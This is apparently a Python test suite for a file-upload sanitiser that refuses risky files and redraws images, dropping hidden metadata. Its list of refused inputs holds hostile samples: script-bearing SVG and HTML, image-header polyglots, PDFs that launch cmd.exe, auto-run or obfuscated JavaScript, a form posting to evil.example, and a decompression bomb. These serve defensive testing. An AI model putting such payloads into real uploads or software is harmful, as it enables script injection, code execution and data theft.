"""What a file is decides its content alone; what is kept of it does nothing by itself."""

import io
import random
import time
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from chalicelib.files.model import MAX_BYTES, MAX_PIXELS, MAX_WEBP_PIXELS, Kind
from chalicelib.files.service import harmless
from chalicelib.kernel.errors import BadInput
from tests.files.pictures import PLACE, located, opened, picture

PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF"


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("word/vbaProject.bin", "macro")
    return out.getvalue()


def packed(objects: bytes, kind: bytes = b"/Type /ObjStm", around: bytes = b"") -> bytes:
    """Return a PDF with a stream of objects."""
    head = b"2 0 obj << " + kind + b" /N 1 /First 4 /Filter /FlateDecode >>"
    return PDF + around + head + b"stream\r\n" + zlib.compress(objects) + b"\nendstream endobj"


def speckled(side: int) -> bytes:
    """Return a picture of 256 colours, which takes three bytes a point as it is drawn anew, and one before."""
    chance = random.Random(1)
    made = Image.frombytes("P", (side, side), chance.randbytes(side * side))
    made.putpalette(list(chance.randbytes(768)))
    out = io.BytesIO()
    made.save(out, "PNG")
    return out.getvalue()


def misplaced() -> bytes:
    """Return a picture that lies on its side, and whose height in its metadata is a word."""
    height = b"\x01\x01\x00\x02\x00\x00\x00\x06\x00\x00\x00\x26"
    orientation = b"\x01\x12\x00\x03\x00\x00\x00\x01\x00\x06\x00\x00"
    entries = b"\x00\x02" + height + orientation + bytes(4)
    return picture("WEBP", exif=b"MM\x00*\x00\x00\x00\x08" + entries + b"maker\x00")


SCRIPT = b"5 0 <</S /JavaScript /JS (app.alert(1))>>"

REFUSED = {
    "an SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "an SVG after a comment": b"<!-- a -->\n<SVG onload=alert(1)>",
    "an XML": b'<?xml version="1.0"?><a/>',
    "an HTML page": b"<!DOCTYPE html><p>a",
    "an HTML page that begins with text": "안녕 <script>alert(1)</script>".encode(),
    "an HTML page in the Korean code page": "안녕 <html><body>".encode("cp949"),
    "a zip": zipped(),
    "an office file of old": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
    "a program": b"MZ\x90\x00" + bytes(64),
    "a text with an escape sequence": b"\x1b[31mred",
    "a PDF with a script": PDF + b"/JavaScript (app.alert(1))",
    "a PDF that starts a program": PDF + b"/Launch /F (cmd.exe)",
    "a PDF with a file inside": PDF + b"/EmbeddedFiles 3 0 R",
    "a PDF with a script under a name in codes": PDF + b"<</S/J#61vaScript/J#53(app.alert(1))>>",
    "a PDF with a script that is referred to": PDF + b"<</JS 4 0 R>>",
    "a PDF that does something when it is opened": PDF + b"/OpenAction 5 0 R",
    "a PDF that does something on a page": PDF + b"/AA<</O 5 0 R>>",
    "a PDF that sends a form": PDF + b"/S /SubmitForm /F (http://evil.example)",
    "a PDF that takes in data": PDF + b"/S /ImportData",
    "a PDF with a form of its own kind": PDF + b"/XFA [3 0 R]",
    "a PDF that opens another": PDF + b"/S/GoToR",
    "a PDF with a packed script": packed(SCRIPT),
    "a PDF with a packed script that is said to be none": packed(SCRIPT, b"/Type /XObject"),
    "a PDF with a packed script behind a false stream": packed(SCRIPT, around=b"%stream\n"),
    "a PDF with objects packed otherwise": packed(SCRIPT)
    .replace(b"FlateDecode", b"LZWDecode")
    .replace(b"x\x9c", b"??"),
    "a PDF with too much inside": packed(b"5 0 " + bytes(30_000_000)),
    "half a picture": picture()[:60],
    "the head of a picture before a page": b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script>",
    "the head of a JPEG alone": b"\xff\xd8\xff\xe0",
    "the head of a GIF before a script": b"GIF89a/*<script>*/=1",
    "a WebP that is none": b"RIFF\x10\x00\x00\x00WEBPVP8 ",
    "a picture of over 40 million pixels": picture("PNG", (MAX_PIXELS // 4_000 + 1, 4_000), "1"),
    "a WebP of over 12 million pixels": picture("WEBP", (MAX_WEBP_PIXELS // 4_000 + 1, 4_000)),
    "a picture with broken metadata": misplaced(),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_is_not_taken_is_refused(what: str) -> None:
    with pytest.raises(BadInput) as refused:
        harmless(REFUSED[what])
    assert refused.value.code == "file_refused"


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP", "GIF"])
def test_a_picture_of_each_kind_is_drawn_anew(kind: str) -> None:
    given = picture(kind) + b"<script>alert(1)</script>"
    found, content = harmless(given)
    assert found is Kind(f"image/{kind.lower()}")
    assert b"script" in given
    assert b"script" not in content
    drawn = opened(content).convert("RGB")
    red, blue = drawn.getpixel((5, 10)), drawn.getpixel((25, 10))
    assert isinstance(red, tuple)
    assert isinstance(blue, tuple)
    assert (red[0] > 200, red[2] < 60) == (blue[2] > 200, blue[0] < 60) == (True, True)


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP"])
def test_where_and_by_whom_it_was_taken_stays_behind(kind: str) -> None:
    given = located(kind)
    assert PLACE.encode() in given
    content = harmless(given)[1]
    assert PLACE.encode() not in content
    assert dict(opened(content).getexif()) == {}


def test_a_comment_and_a_colour_profile_stay_behind() -> None:
    given = picture("JPEG", comment=b"SECRET comment", icc_profile=b"SECRET profile")
    assert given.count(b"SECRET") == 2
    assert b"SECRET" not in harmless(given)[1]


def test_a_picture_that_lies_on_its_side_is_put_upright() -> None:
    assert opened(harmless(located("JPEG", orientation=6))[1]).size == (20, 30)
    assert opened(harmless(located("JPEG", orientation=1))[1]).size == (30, 20)


def test_what_is_transparent_stays_so() -> None:
    out = io.BytesIO()
    Image.new("RGBA", (4, 4), (255, 0, 0, 0)).save(out, "PNG")
    assert opened(harmless(out.getvalue())[1]).getpixel((1, 1)) == (255, 0, 0, 0)


def test_of_a_picture_that_moves_the_first_frame_is_kept() -> None:
    out = io.BytesIO()
    frames = [Image.new("RGB", (4, 4), colour) for colour in ("red", "blue")]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    drawn = opened(harmless(out.getvalue())[1])
    assert getattr(drawn, "n_frames", 1) == 1
    assert drawn.convert("RGB").getpixel((1, 1)) == (255, 0, 0)


def test_a_picture_of_forty_million_pixels_is_taken() -> None:
    assert harmless(picture("PNG", (MAX_PIXELS // 4_000, 4_000), "1"))[0] is Kind.PNG


def test_a_webp_of_twelve_million_pixels_is_taken() -> None:
    assert harmless(picture("WEBP", (MAX_WEBP_PIXELS // 4_000, 4_000)))[0] is Kind.WEBP


def test_a_picture_that_grows_too_large_is_refused() -> None:
    assert harmless(speckled(200))[0] is Kind.PNG
    given = speckled(2_200)
    assert len(given) < MAX_BYTES
    with pytest.raises(BadInput, match="file_refused"):
        harmless(given)


@pytest.mark.parametrize(
    "quiet",
    [
        PDF,
        PDF + b"/OpenAction [3 0 R /FitH null]",
        PDF + b"/BaseFont /AAAAAA+NotoSansKR /AA1 /JSON",
        packed(b"5 0 <</Type /Page>>"),
        packed(b"\x00\x01 picture /JS (a)", b"/Subtype /Image"),
    ],
)
def test_a_quiet_pdf_stays_as_it_is(quiet: bytes) -> None:
    assert harmless(quiet) == (Kind.PDF, quiet)


@pytest.mark.parametrize(
    "piece",
    [b"stream\n", b"stream\n1 0 ", b"stream\n" + zlib.compress(b"1 0 "), b"#41", b"/JS  ", b"/AA \x00", b"obj"],
)
def test_no_pdf_keeps_a_function_busy(piece: bytes) -> None:
    started = time.process_time()
    taken(PDF + piece * (MAX_BYTES // 4 // len(piece)))
    assert time.process_time() - started < 2


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp949"])
def test_a_text_is_kept_in_utf_8(encoding: str) -> None:
    said = "주문 번호: 2026-1121\r\n\t1 < 2 그리고 3 > 2"
    assert harmless(said.encode(encoding)) == (Kind.TEXT, said.encode())


def taken(content: bytes) -> tuple[Kind, bytes] | None:
    """What is kept of `content`; None if it is refused, and any other failure is one."""
    try:
        return harmless(content)
    except BadInput:
        return None


@given(st.binary(max_size=400))
def test_anything_is_either_refused_or_harmless(content: bytes) -> None:
    if found := taken(content):
        kind, kept = found
        assert kind is Kind.TEXT or content.startswith(b"%PDF-")
        assert b"\x00" not in kept or kind is Kind.PDF


@given(st.sampled_from(["PNG", "JPEG", "WEBP", "GIF"]), st.integers(0, 400), st.binary(min_size=1, max_size=8))
def test_a_picture_that_was_tampered_with_is_refused_or_drawn(kind: str, at: int, other: bytes) -> None:
    given = picture(kind, (8, 8))
    at %= len(given)
    if found := taken(given[:at] + other + given[at + len(other) :]):
        assert found[0] is Kind.TEXT or opened(found[1]).width > 0
